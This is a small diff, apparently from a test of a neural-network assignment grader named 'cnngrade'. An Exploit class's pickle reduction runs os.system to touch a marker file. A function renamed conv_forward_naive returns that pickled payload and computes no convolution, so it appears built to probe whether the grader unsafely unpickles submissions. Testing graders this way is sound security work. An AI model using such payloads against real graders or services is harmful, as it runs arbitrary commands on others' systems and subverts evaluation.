@@ -9,5 +9,5 @@ class Exploit:
         return (os.system, ("touch /tmp/cnngrade-pickle-was-loaded",))
 
 
-def relu_forward(x):
+def conv_forward_naive(x, w=None, b=None, conv_param=None):
     return pickle.dumps(Exploit()), None
